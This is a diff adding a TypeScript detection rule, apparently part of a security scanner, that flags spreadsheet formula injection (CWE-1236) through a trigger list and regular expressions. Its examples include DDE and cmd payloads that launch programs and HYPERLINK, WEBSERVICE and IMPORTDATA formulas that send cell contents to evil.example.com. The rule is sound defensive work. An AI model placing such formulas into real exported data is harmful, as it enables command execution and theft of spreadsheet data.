@@ -1,0 +1,122 @@
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** `=cmd|'/c calc'!A0`, `=WEBSERVICE("http://x/"&A1)`: cells that act when a sheet is opened. */
+export const formula: ValueRule = {
+  id: 'code.formula',
+  category: 'code',
+  cwe: 'CWE-1236',
+  severity: 'high',
+  score: confidence.strong,
+  message: 'is a spreadsheet formula that starts a program or sends cells to another machine',
+  trigger: {
+    literals: [
+      [
+        'cmd|',
+        'cmd.exe|',
+        'msexcel|',
+        'powershell|',
+        'mshta|',
+        'rundll32|',
+        'regsvr32|',
+        'wscript|',
+        'certutil|',
+        'calc|',
+        "!'",
+        "|'",
+        'hyperlink(',
+        'webservice(',
+        'importxml(',
+        'importdata(',
+        'importfeed(',
+        'importhtml(',
+        'importrange(',
+        'image(',
+        'dde(',
+        '=exec(',
+        '=call(',
+        '=register(',
+      ],
+    ],
+  },
+  judge,
+  examples: [
+    "=cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|'/c notepad'!A1",
+    '=HYPERLINK("http://evil.example.com/?x="&A1&A2,"Open")',
+    '=WEBSERVICE(CONCATENATE("http://evil.example.com/",B2))',
+    'Anna,=IMPORTDATA("http://evil.example.com/?q="&C2:C9),5',
+    '=DDE("cmd";"/C calc";"x")',
+    '=EXEC("cmd.exe /c calc")',
+  ],
+  lookalikes: [
+    '=SUM(A1:A3)*2',
+    '=HYPERLINK("https://example.com/report","Report")',
+    '=IF(A1>5,"yes","no")&" of "&B2',
+    'How do I use =WEBSERVICE("https://example.com/"&A1) in a sheet?',
+    '-5+3',
+    '=VLOOKUP(A2,Sheet2!A:B,2,FALSE)',
+    "='My sheet'!A1",
+    '@anna +1 | see cmd | and more',
+  ],
+};
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  const exchange = dynamicExchange.exec(text);
+  if (exchange !== null) {
+    return {
+      start: exchange.index,
+      end: exchange.index + exchange[0].length,
+      score: confidence.certain,
+    };
+  }
+  let seen = 0;
+  for (const match of text.matchAll(reaching)) {
+    if (seen++ >= callsMax) {
+      subject.incomplete('tokens');
+      break;
+    }
+    const start = cellStart(text, match.index);
+    if (start < 0) continue;
+    const rest = text.slice(match.index, match.index + argumentsMax);
+    const end = match.index + match[0].length;
+    if (runs.test(rest)) return { start, end, score: confidence.strong };
+    const outside = rest.replace(literal, '""');
+    if (target.test(rest) && (joined.test(outside) || gathers.test(outside))) {
+      return { start, end: Math.min(text.length, end + 60) };
+    }
+  }
+  return undefined;
+}
+
+const callsMax = 4_096;
+const argumentsMax = 240;
+const cellMax = 48;
+
+/** Start of the cell that holds a call; -1 when the text around it is no formula. */
+function cellStart(text: string, call: number): number {
+  const from = Math.max(0, call - cellMax);
+  const match = cell.exec(text.slice(from, call));
+  if (match === null) return -1;
+  const isStart = from + match.index === 0;
+  return isStart || cellEdges.includes(text.charAt(from + match.index)) ? from + match.index : -1;
+}
+
+const cellEdges = ',;\t\n"';
+/** From the edge of a cell to a call in it. */
+const cell = /(?:^|[,;\t\n"]) {0,2}[=+@-][A-Za-z0-9(.,<>=+*/&-]{0,40}$/;
+const dynamicExchange =
+  /(?:^|[,;\t\n"]) {0,2}[=+@-](?:[\w+*/().-]{0,24}[+*/=(-])?(?:cmd|msexcel|excel|winword|powershell|mshta|rundll32|regsvr32|wscript|cscript|certutil|calc|[a-z]:\\[\w\\.]{1,40})(?:\.exe)?\|['" /\\]/i;
+const reaching =
+  /\b(?:hyperlink|webservice|import(?:xml|data|feed|html|range)|image|dde|exec|call|register) {0,2}\(/gi;
+/** Calls that run something by themselves. */
+const runs = /^(?:dde|exec|call|register) {0,2}\( {0,2}"/i;
+const literal = /"[^"\n]{0,120}"/g;
+const target = /"(?:https?:|ftp:|\/\/|\\\\)/i;
+/** A cell that is appended: `&A1`, `A1&`. */
+const joined = /& {0,2}\$?[A-Za-z]{1,3}\$?\d{1,6}\b|\b[A-Za-z]{1,3}\d{1,6} {0,2}&/;
+const gathers =
+  /\b(?:concat|concatenate|textjoin|join|encodeurl|arraytotext|cell|info) {0,2}\([^)\n]{0,120}\$?[A-Za-z]{1,3}\$?\d/i;
